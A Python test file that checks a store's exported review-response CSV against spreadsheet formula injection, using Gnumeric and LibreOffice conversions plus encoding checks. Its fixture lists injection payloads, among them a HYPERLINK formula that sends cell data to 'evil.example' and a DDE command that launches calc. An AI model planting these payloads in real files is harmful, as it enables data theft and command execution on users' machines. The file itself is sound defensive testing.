"""The response log opened by a spreadsheet that is not ours: everything is there, as text, and no formula runs.

Gnumeric's `ssconvert` (Debian: apt install gnumeric) and LibreOffice's `soffice`, where they are installed.
"""

from __future__ import annotations

import csv
import gzip
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from xml.etree import ElementTree

import pytest

from store import reply_ledger, response_log
from store.response_log import COLUMNS, LogChoice
from tests.builders import NOON, a_brand, a_review, a_source, arrives, id_of

#: What a customer may write, by the id of their review. (That a spreadsheet takes a lone "1/2" for a date is its own way.)
WORDS = {
    "commas": "Cold, slow, and loud; twice",
    "quotes": 'They said "soon", ""really"" soon',
    "lines": "First line\nsecond line\n\nfourth line",
    "emoji": "Cold 🥶 soup 👩🏽‍🍳 🇿🇦",
    "rtl": "الحساء بارد مرتين ‏(جدا)‏ שלום",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"click me")',
    "command": "=cmd|' /C calc'!A0",
    "sum": "=1+1",
    "plus": "+1+1 is what I got",
    "minus": "-2+3 out of five",
    "at": "@SUM(1+1)*cmd",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "apostrophe": "'=1+1",
    "long": "x" * 20_000,
}
GUARDED = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(params=[",", ";"])
def log(request: pytest.FixtureRequest, workspace, tmp_path: Path) -> tuple[Path, str]:
    """A log whose reviews, replies and names all hold the words above."""
    source = a_source(workspace, a_brand(workspace))
    page = [a_review(name, text=text, title=text, author=text[:200]) for name, text in WORDS.items()]
    arrives(workspace, source, *page, whole=False)
    for name, text in WORDS.items():
        reply_ledger.record_posted_elsewhere(workspace, id_of(workspace, name), text, now=NOON, posted_by=text[:50])
    target = tmp_path / "log.csv"
    response_log.write_log(workspace, target, LogChoice(delimiter=request.param))
    return target, request.param


def shown(text: str) -> str:
    return f"'{text}" if text.startswith(GUARDED) else text


def plain(text: str) -> str:
    """The text but for the kind of its line ends, which every spreadsheet makes its own."""
    return text.replace("\r\n", "\n").replace("\r", "\n")


def read_back(path: Path) -> dict[str, dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        header, *rows = csv.reader(file)
    assert tuple(header) == COLUMNS
    place = COLUMNS.index("review_id")
    return {row[place]: dict(zip(COLUMNS, row, strict=False)) for row in rows}


def same_words(found: dict[str, dict[str, str]]) -> Iterator[str]:
    """The cells that are not as they were written."""
    for name, text in WORDS.items():
        for column in ("review_text", "review_title", "reply_text"):
            if plain(found[name][column]) not in (plain(shown(text)), plain(text), plain(text.removeprefix("'"))):
                yield f"{name}.{column}: {found[name][column][:60]!r}"


@pytest.mark.skipif(shutil.which("ssconvert") is None, reason="gnumeric is not installed")
def test_gnumeric_shows_every_word_as_text_and_runs_no_formula(log, tmp_path):
    path, delimiter = log
    if delimiter == ";":
        pytest.skip("ssconvert guesses the delimiter by the machine's own language")

    def convert(name: str) -> Path:
        target = tmp_path / name
        subprocess.run(
            ["ssconvert", "--import-type=Gnumeric_stf:stf_csvtab", "--import-encoding=UTF-8", str(path), str(target)],
            check=True, capture_output=True, timeout=60,
        )  # fmt: skip
        return target

    found = read_back(convert("again.csv"))
    assert sorted(found) == sorted(WORDS)
    assert not list(same_words(found))

    document = ElementTree.fromstring(gzip.decompress(convert("log.gnumeric").read_bytes()))
    cells = [cell for cell in document.iter() if cell.tag.endswith("}Cell")]
    assert len(cells) > len(WORDS)
    formulas = [cell.text for cell in cells if cell.get("ValueType") is None and not cell.get("ExprID")]
    formulas += [cell.text for cell in cells if cell.get("ExprID")]
    assert formulas == []


@pytest.mark.slow
@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_libreoffice_shows_every_word_as_text_and_runs_no_formula(log, tmp_path):
    path, delimiter = log
    home = (tmp_path / "home").as_uri()
    filter_options = f"CSV:{ord(delimiter)},34,76,1"
    subprocess.run(
        ["soffice", f"-env:UserInstallation={home}", "--headless", "--convert-to", "fods", f"--infilter={filter_options}",
         "--outdir", str(tmp_path), str(path)],
        check=True, capture_output=True, timeout=110,
    )  # fmt: skip
    text = (tmp_path / "log.fods").read_text("utf-8")
    assert "table:formula" not in text
    for words in ("Cold, slow, and loud; twice", "👩🏽‍🍳", "بارد مرتين"):
        assert words in text


def test_the_file_is_utf8_with_a_mark_and_each_record_ends_as_rfc_4180_says(log):
    path, delimiter = log
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf" + delimiter.join(COLUMNS).encode() + b"\r\n")
    assert raw.endswith(b"\r\n")
    with path.open(encoding="utf-8-sig", newline="") as file:
        rows = list(csv.DictReader(file, delimiter=delimiter))
    assert {row["review_id"]: row["review_text"] for row in rows} == {name: shown(text) for name, text in WORDS.items()}
